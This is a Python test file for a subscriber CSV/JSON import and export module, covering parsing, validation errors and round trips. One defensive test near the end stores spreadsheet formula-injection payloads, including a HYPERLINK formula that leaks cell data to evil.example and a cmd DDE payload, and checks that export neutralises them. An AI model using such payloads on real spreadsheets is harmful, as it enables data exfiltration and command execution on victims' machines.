"""CSV import and export of subscribers, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json

import hypothesis
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from digest import ingest
from digest import subscriptions as subs
from digest import subscriptions as subs_io
from digest.match import query as query_language
from digest.store.models import Subscriber, SubscriberStatus, Topic
from digest.subscriptions import cells, importer

BAD_QUERY = '"machine unlearning'  # unclosed quote


def _count(session: Session, model: type) -> int:
    return session.scalar(select(func.count()).select_from(model)) or 0


def _hf_feed(session: Session) -> None:
    """A Hugging Face feed: readers without topics (and upvotes: topics) then get papers,
    so an import has nothing to warn about for them."""
    ingest.add_feed(session, "https://huggingface.co/api/daily_papers")
    session.commit()


def _import(session: Session, text: str | bytes, **kwargs: object) -> subs_io.ImportReport:
    data = text.encode() if isinstance(text, str) else text
    report = subs_io.import_csv(session, io.BytesIO(data), consent_detail="test import", **kwargs)
    session.commit()
    return report


def test_split_topics_keeps_semicolons_inside_phrases() -> None:
    assert subs_io.split_topics('llm; "a; b" OR c ;; author:bengio ') == [
        "llm",
        '"a; b" OR c',
        "author:bengio",
    ]
    assert subs_io.split_topics("") == []


def test_topics_cell_escapes_semicolons_and_reads_every_quote_kind() -> None:
    assert subs_io.format_topics([("x;y", "x;y"), ("a\\b", "A; B")]) == (
        r"x\;y; a\\b",
        r"; A\; B",
    )
    assert subs_io.split_topics(r"x\;y; a\\b; c\d") == ["x;y", "a\\b", "c\\d"]
    # A ; inside a phrase needs no escape, with any quotes the query language reads...
    assert subs_io.split_topics("“machine; unlearning” safety; «a;b» c; llm") == [
        "“machine; unlearning” safety",
        "«a;b» c",
        "llm",
    ]
    # ...but quotes mean nothing in a ~ sentence, so an odd one does not swallow the next.
    assert subs_io.split_topics('~why "this; "b; c" d') == ['~why "this', '"b; c" d']


def test_topics_and_labels_cells_are_checked_together() -> None:
    pairs, reasons = subs_io.parse_topics("llm; ; rl", "LLMs; ; Reinforcement")
    assert (pairs, reasons) == ([("llm", "LLMs"), ("rl", "Reinforcement")], [])
    pairs, reasons = subs_io.parse_topics("llm; LLM;  x\ty ", "First; Second")
    assert (pairs, reasons) == ([("llm", "First"), ("x y", "x y")], [])
    _, reasons = subs_io.parse_topics("llm", "A; B")
    assert reasons == [
        "the labels cell has 2 entries for 1 topics: one label per topic, in the same order"
    ]
    _, reasons = subs_io.parse_topics("llm;;rl", "A; B; C")
    assert reasons == ['the label "B" has no topic next to it in the topics cell']


_WORDS = st.sampled_from(
    ["llm", "X;Y", "a=b", "upvotes:>=10", "author:bengio", "é;", ";x", "back\\slash", "x\\;",
     "trending", "cat:cs.LG", "title:agents"]
)  # fmt: skip
_JOINERS = st.sampled_from(["", "OR", "AND", "-", "NOT", "\\", ";", ";;", "\\;", "="])
_QUOTE_PAIRS = st.sampled_from(['""', "“”", "„“", "«»", "»«", '"”', "””"])
_PHRASE = st.text(alphabet=st.sampled_from("ab ;=\\~-'"), min_size=1, max_size=8).filter(
    lambda text: any(c in "ab" for c in text)
)


@st.composite
def _queries(draw: st.DrawFn) -> str:
    r"""Queries with ;, \, = and every kind of quote, in places the parser accepts."""
    parts = [draw(_WORDS)]
    for _ in range(draw(st.integers(0, 3))):
        joiner = draw(_JOINERS)
        if draw(st.booleans()):
            quotes = draw(_QUOTE_PAIRS)
            term = f"{quotes[0]}{draw(_PHRASE)}{quotes[1]}"
        else:
            term = draw(_WORDS)
        parts.append(f"{joiner}{term}" if joiner == "-" else f"{joiner} {term}")
    query = " ".join(parts)
    hypothesis.assume(query_language.check(query) is None)
    return subs.validate_query(query)


_LABELS = st.one_of(
    st.none(), st.text(alphabet=st.sampled_from('ab ;\\"“=~\t'), min_size=1, max_size=12)
)


@settings(max_examples=300, deadline=None)
@given(topics=st.lists(st.tuples(_queries(), _LABELS), max_size=5))
def test_topics_and_labels_cells_round_trip(topics: list[tuple[str, str | None]]) -> None:
    """Whatever topics the system accepts, export's two cells import back to the same ones."""
    stored = list(
        {subs.topic_key(q): (q, subs.validate_label(label, q)) for q, label in topics}.values()
    )
    cells = subs_io.format_topics(stored)
    # Through the csv module too, as a real file does.
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(cells)
    (row,) = list(csv.reader(io.StringIO(out.getvalue())))
    assert subs_io.parse_topics(*row) == (stored, [])


def test_import_stores_good_rows_as_confirmed(session: Session) -> None:
    report = _import(
        session,
        "email,topics,timezone,frequency,hour,max\n"
        'Ada@Example.org,"""machine unlearning""; author:bengio",europe/london,weekly,8,10\n'
        "bob@example.org,,,,,\n"
        "\n"
        "carol@example.org\n",
    )
    assert (report.rows, report.imported, report.topics, report.errors) == (3, 3, 2, [])
    ada = subs.get_subscriber(session, "ada@example.org")
    assert ada is not None
    assert ada.status is SubscriberStatus.ACTIVE and ada.confirmed_at is not None
    assert (ada.consent_source, ada.consent_detail) == ("import", "test import")
    assert (ada.timezone, ada.frequency, ada.send_hour, ada.max_papers) == (
        "Europe/London",
        "weekly",
        8,
        10,
    )
    assert [(t.label, t.query) for t in ada.topics] == [
        ("machine unlearning", '"machine unlearning"'),
        ("by bengio", "author:bengio"),
    ]
    carol = subs.get_subscriber(session, "carol@example.org")
    assert carol is not None
    assert (carol.timezone, carol.frequency, carol.send_hour, carol.max_papers) == (
        "UTC",
        "daily",
        7,
        20,
    )
    assert carol.topics == []


def test_every_bad_row_is_reported_by_line_and_not_stored(session: Session) -> None:
    subs.add_subscriber(session, "stored@example.org")
    session.commit()
    text = (
        "email,topics,timezone,frequency,hour,max\n"  # line 1
        "good1@example.org,llm,,,,\n"  # 2
        "x@,,,,,\n"  # 3 bad address
        "tz@example.org,,Europe/Pari,,,\n"  # 4 unknown time zone
        "hour@example.org,,,,24,\n"  # 5 bad hour
        f'topic@example.org,"llm;{BAD_QUERY.replace(chr(34), chr(34) * 2)}",,,,\n'  # 6 bad topic
        "GOOD1@example.org,,,,,\n"  # 7 duplicate within the file
        "stored@EXAMPLE.org,,,,,\n"  # 8 already stored
        '"multi\nline@example.org",,,,,\n'  # 9 unclosed quote, 10 then a bad address
        "good2@example.org,rl,Asia/Tokyo,weekly,23,100\n"  # 11
        ",llm,,,,\n"  # 12 missing address
        "many@example.org,a,UTC,daily,7,20,surplus\n"  # 13 too many fields
        "all@example.org,,Nowhere,monthly,-1,0\n"  # 14 several problems at once
    )
    report = _import(session, text)
    assert report.rows == 13
    assert report.imported == 2 and report.topics == 2
    by_line = {e.line: e for e in report.errors}
    assert sorted(by_line) == [3, 4, 5, 6, 7, 8, 9, 10, 12, 13, 14]
    assert str(by_line[3]).startswith('line 3: "x@": the email address is not valid: ')
    assert 'did you mean "Europe/Paris"' in by_line[4].reason
    assert "send hour" in by_line[5].reason
    assert by_line[6].reason.startswith(f'bad topic query "{BAD_QUERY}"')
    assert by_line[7].reason == "the address appears twice: first on line 2"
    assert by_line[8].reason == (
        "already subscribed (status: pending); an import with --update changes existing subscribers"
    )
    assert by_line[9].reason.startswith("unclosed quote")
    assert "not valid" in by_line[10].reason
    assert by_line[12].reason == "the email address is missing"
    assert "7 fields but the header has 6" in by_line[13].reason
    for part in ("time zone", "frequency", "send hour", "maximum papers"):
        assert part in by_line[14].reason
    emails = set(session.scalars(select(Subscriber.email_key)))
    assert emails == {"stored@example.org", "good1@example.org", "good2@example.org"}
    # The bad-topic row left neither a subscriber nor its good topic behind.
    assert sorted(session.scalars(select(Topic.query))) == ["llm", "rl"]


@pytest.mark.parametrize(
    "data",
    [
        b"\xef\xbb\xbfemail,topics\r\nada@example.org,llm\r\nbob@example.org,rl\r\n",
        b"Email , TOPICS\rada@example.org,llm\rbob@example.org,rl\r",
    ],
    ids=["bom-crlf", "cr-and-header-case"],
)
def test_bom_line_endings_and_header_case(session: Session, data: bytes) -> None:
    report = _import(session, data)
    assert (report.imported, report.errors, report.warnings) == (2, [], [])
    assert sorted(session.scalars(select(Topic.query))) == ["llm", "rl"]


def test_extra_columns_are_ignored_with_a_warning(session: Session) -> None:
    _hf_feed(session)
    report = _import(session, "name,email,notes\nAda,ada@example.org,vip\n")
    assert report.imported == 1
    assert report.warnings == [
        "ignoring unknown column(s): name, notes "
        "(known: email, topics, timezone, frequency, weekday, hour, max, status, labels)"
    ]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"ada@example.org,llm\n", "the file has no header row"),
        (b"mail,topics\nada@example.org,llm\n", "the header has no email column"),
        (b"", "the file is empty"),
        (b"email,email\nada@example.org,a@b.org\n", "names a column twice: email"),
        ("email\nada@example.org\nbj\xf6rn@example.org\n".encode("latin-1"), "not UTF-8"),
    ],
)
def test_file_level_problems_raise_and_store_nothing(
    session: Session, data: bytes, message: str
) -> None:
    with pytest.raises(subs.SubscriptionError, match=message) as caught:
        _import(session, data)
    if message == "not UTF-8":
        assert "byte 0xf6 on line 3" in str(caught.value)
    session.rollback()
    assert _count(session, Subscriber) == 0


def test_dry_run_checks_everything_and_writes_nothing(session: Session) -> None:
    subs.add_subscriber(session, "stored@example.org", confirmed=True)
    session.commit()
    report = _import(
        session, "email,topics\nada@example.org,llm\nstored@example.org,\n", dry_run=True
    )
    assert (report.imported, report.topics, report.dry_run) == (1, 1, True)
    assert [str(e) for e in report.errors] == [
        'line 3: "stored@example.org": already subscribed (status: active); an import with '
        "--update changes existing subscribers"
    ]
    assert _count(session, Subscriber) == 1


def test_address_added_during_the_import_is_reported_not_overwritten(
    session: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The race ON CONFLICT DO NOTHING is for: a web signup lands after our prefetch."""
    web = subs.add_subscriber(session, "ada@example.org", topics=["web topic"])
    session.commit()
    monkeypatch.setattr(importer, "_existing", lambda session, keys: {})
    report = _import(session, "email,topics\nada@example.org,imported topic\nbob@example.org,rl\n")
    assert report.imported == 1
    assert [str(e) for e in report.errors] == [
        'line 2: "ada@example.org": already subscribed (added during the import)'
    ]
    session.expire_all()
    assert web.status is SubscriberStatus.PENDING and web.consent_source == "cli"
    assert [t.query for t in web.topics] == ["web topic"]


def _generated_csv(rows: int) -> str:
    zones = ["UTC", "Europe/Paris", "America/New_York", "Asia/Tokyo", "Australia/Sydney"]
    words = ["llm", "diffusion", "author:bengio", '"reasoning models"', "cat:cs.LG", "agents"]
    lines = ["email,topics,timezone,frequency,weekday,hour,max"]
    for i in range(rows):
        if i % 97 == 13:
            lines.append(f"broken{i}@,llm,UTC,daily,mon,7,20")
            continue
        topics = "; ".join(words[(i + k) % len(words)] for k in range(i % 4))
        freq = "weekly" if i % 5 == 0 else "daily"
        lines.append(
            f'reader{i}@example.org,"{topics.replace(chr(34), chr(34) * 2)}",'
            f"{zones[i % len(zones)]},{freq},{subs.WEEKDAYS[i % 7]},{i % 24},{i % 100 + 1}"
        )
    return "\n".join(lines) + "\n"


def test_two_thousand_rows(session: Session) -> None:
    report = _import(session, _generated_csv(2000))
    bad = [i for i in range(2000) if i % 97 == 13]
    assert report.rows == 2000
    assert report.imported == 2000 - len(bad)
    assert [e.line for e in report.errors] == [i + 2 for i in bad]
    assert _count(session, Subscriber) == report.imported
    expected_topics = sum(i % 4 for i in range(2000) if i % 97 != 13)
    assert report.topics == _count(session, Topic) == expected_topics
    sample = subs.get_subscriber(session, "reader1234@example.org")
    assert sample is not None
    assert (sample.timezone, sample.weekday, sample.send_hour, sample.max_papers) == (
        "Australia/Sydney",
        1234 % 7,
        1234 % 24,
        1234 % 100 + 1,
    )
    assert len(sample.topics) == 1234 % 4


def test_export_imports_back_identically(session: Session) -> None:
    _hf_feed(session)
    report = _import(session, _generated_csv(300))
    assert report.imported > 0
    subs.add_subscriber(session, "gone@example.org", topics=["robotics"], confirmed=True)
    subs.unsubscribe(session, subs.get_subscriber(session, "gone@example.org"))  # type: ignore[arg-type]
    phrase = subs.add_subscriber(session, "phrase@example.org", confirmed=True)
    subs.add_topic(session, phrase, '"a; b" OR c')
    session.commit()
    first = io.StringIO()
    count = subs_io.export_csv(session, first)
    assert count == report.imported + 1  # the unsubscribed address is not exported
    assert "gone@example.org" not in first.getvalue()

    for sub in session.scalars(select(Subscriber)):
        session.delete(sub)
    session.commit()
    again = _import(session, first.getvalue())
    assert (again.imported, again.errors, again.warnings) == (count, [], [])
    second = io.StringIO()
    subs_io.export_csv(session, second)
    assert second.getvalue() == first.getvalue()
    restored = subs.get_subscriber(session, "phrase@example.org")
    assert restored is not None and [t.query for t in restored.topics] == ['"a; b" OR c']


def test_json_export_has_consent_and_labels(session: Session) -> None:
    sub = subs.add_subscriber(
        session, "ada@example.org", confirmed=True, consent_source="web", consent_ip="192.0.2.1"
    )
    subs.add_topic(session, sub, "llm", label="Language models")
    subs.add_subscriber(session, "pending@example.org")
    session.commit()
    out = io.StringIO()
    assert subs_io.export_json(session, out) == 1
    (record,) = json.loads(out.getvalue())
    assert record["email"] == "ada@example.org" and record["status"] == "active"
    assert record["consent"]["source"] == "web" and record["consent"]["ip"] == "192.0.2.1"
    assert record["topics"][0]["label"] == "Language models"
    out = io.StringIO()
    assert subs_io.export_json(session, out, statuses=list(SubscriberStatus)) == 2


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    body=st.lists(
        st.text(alphabet=st.sampled_from('ab@.;,"\r\n \xe9x-:'), max_size=40), max_size=6
    ),
    header=st.sampled_from(["email", "email,topics", "topics,email,hour", "mail", ""]),
    raw=st.binary(max_size=30),
)
def test_any_input_is_a_report_or_one_clear_error(
    session: Session, body: list[str], header: str, raw: bytes
) -> None:
    """Whatever the file holds: a report, or a SubscriptionError; never another exception."""
    for data in (("\n".join([header, *body])).encode(), raw):
        try:
            report = subs_io.import_csv(session, data, dry_run=True)
        except subs.SubscriptionError as exc:
            assert str(exc) and "\n" not in str(exc)
        else:
            assert report.imported + report.bad == report.rows
            assert all(e.reason for e in report.errors)


def test_an_unclosed_quote_is_its_rows_error_and_does_not_swallow_the_rest(
    session: Session,
) -> None:
    report = _import(
        session,
        'email,topics\n"unterminated@example.org,llm\nnext@example.org,x\nlast@example.org,"y',
    )
    assert (report.rows, report.imported) == (3, 1)
    assert [(e.line, e.email) for e in report.errors] == [
        (2, '"unterminated@example.org,llm'),
        (4, 'last@example.org,"y'),
    ]
    assert all(e.reason.startswith("unclosed quote: ") for e in report.errors)
    assert list(session.scalars(select(Subscriber.email_key))) == ["next@example.org"]
    with pytest.raises(subs.SubscriptionError, match="line 1: the header cannot be read"):
        _import(session, '"email,topics\nada@example.org,llm\n')


def test_status_column_imports_paused_and_refuses_other_statuses(session: Session) -> None:
    report = _import(
        session,
        "email,status\n"
        "ada@example.org,Paused\n"
        "bob@example.org,active\n"
        "carol@example.org,\n"
        "dan@example.org,unsubscribed\n"
        "eve@example.org,pending\n",
    )
    assert report.imported == 3
    assert [(e.line, e.reason) for e in report.errors] == [
        (
            line,
            f'the status "{status}" cannot be imported: only active or paused subscribers '
            "can (an import is for people whose consent you hold)",
        )
        for line, status in [(5, "unsubscribed"), (6, "pending")]
    ]
    statuses = dict(session.execute(select(Subscriber.email_key, Subscriber.status)).all())
    assert statuses == {
        "ada@example.org": SubscriberStatus.PAUSED,
        "bob@example.org": SubscriberStatus.ACTIVE,
        "carol@example.org": SubscriberStatus.ACTIVE,
    }
    ada = subs.get_subscriber(session, "ada@example.org")
    assert ada is not None and ada.confirmed_at is not None


def test_export_imports_back_paused_subscribers_labels_and_any_topic(session: Session) -> None:
    """The audit's round trip: status, weekly day, labels and topics with ; and quotes."""
    _hf_feed(session)
    topics = [
        ("x;y", "x;y"),
        ("“machine; unlearning” safety", "Unlearning; safety"),
        ('"a; b" OR c=d', "with \\ backslash"),
        ("upvotes:>=10 «re;ward» \\;", "upvotes:>=10 «re;ward» \\;"),
    ]
    ada = subs.add_subscriber(
        session, "ada@example.org", confirmed=True, frequency="weekly", weekday="fri"
    )
    for query, label in topics:
        subs.add_topic(session, ada, query, label=label)
    subs.pause(session, ada)
    subs.add_subscriber(session, "bob@example.org", topics=["llm"], confirmed=True)
    session.commit()
    first = io.StringIO()
    assert subs_io.export_csv(session, first) == 2
    for sub in session.scalars(select(Subscriber)):
        session.delete(sub)
    session.commit()

    again = _import(session, first.getvalue())
    assert (again.imported, again.errors, again.warnings) == (2, [], [])
    restored = subs.get_subscriber(session, "ada@example.org")
    assert restored is not None
    assert (restored.status, restored.frequency, restored.weekday) == (
        SubscriberStatus.PAUSED,
        "weekly",
        4,
    )
    assert [(t.query, t.label) for t in restored.topics] == topics
    second = io.StringIO()
    subs_io.export_csv(session, second)
    assert second.getvalue() == first.getvalue()


def test_import_normalises_topic_whitespace_and_drops_repeats_of_any_case(
    session: Session,
) -> None:
    report = _import(session, 'email,topics\nada@example.org,"llm\t  agents; LLM Agents; X; x"\n')
    assert (report.imported, report.topics, report.errors) == (1, 2, [])
    assert sorted(session.scalars(select(Topic.query))) == ["X", "llm agents"]


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_export_neutralises_formulas_and_imports_them_back_exactly(session: Session) -> None:
    """OWASP CSV injection: no exported cell starts a spreadsheet formula, and our own
    import reads the neutralised cells back exactly."""
    _hf_feed(session)
    # A valid address (RFC 5322 atext allows = and +) that a spreadsheet would evaluate.
    sly = subs.add_subscriber(session, "=1+2@example.org", confirmed=True)
    labels = [
        ("diffusion", '=HYPERLINK("https://evil.example/?"&A1,"click")'),
        ("llm", "+cmd|' /C calc'!A0"),
        ("jailbreak", "@SUM(1+1)"),
        ("unlearning", "-2+3"),
        ("safety", "'=already quoted"),
        ("agents", "'plain quote"),
    ]
    for query, label in labels:
        subs.add_topic(session, sly, query, label=label)
    minus = subs.add_subscriber(session, "-dash@example.org", confirmed=True)
    subs.add_topic(session, minus, "-survey diffusion")
    session.commit()
    first = io.StringIO()
    assert subs_io.export_csv(session, first) == 2
    rows = list(csv.reader(io.StringIO(first.getvalue())))
    for row in rows[1:]:
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA_START), cell
    assert rows[1][0] == "'=1+2@example.org" and rows[2][0] == "'-dash@example.org"
    for sub in session.scalars(select(Subscriber)):
        session.delete(sub)
    session.commit()

    again = _import(session, first.getvalue())
    assert (again.imported, again.errors) == (2, [])
    restored = subs.get_subscriber(session, "=1+2@example.org")
    assert restored is not None and restored.email == "=1+2@example.org"
    assert [(t.query, t.label) for t in restored.topics] == labels
    back = subs.get_subscriber(session, "-dash@example.org")
    assert back is not None and [t.query for t in back.topics] == ["-survey diffusion"]
    second = io.StringIO()
    subs_io.export_csv(session, second)
    assert second.getvalue() == first.getvalue()


def test_a_hand_written_leading_quote_is_kept() -> None:
    assert cells.restore("'hello") == "'hello"
    for cell in ("=1+2", "'x", " -1", "@a", "\tx", "plain", "", "'"):
        assert cells.restore(cells.neutralise(cell)) == cell
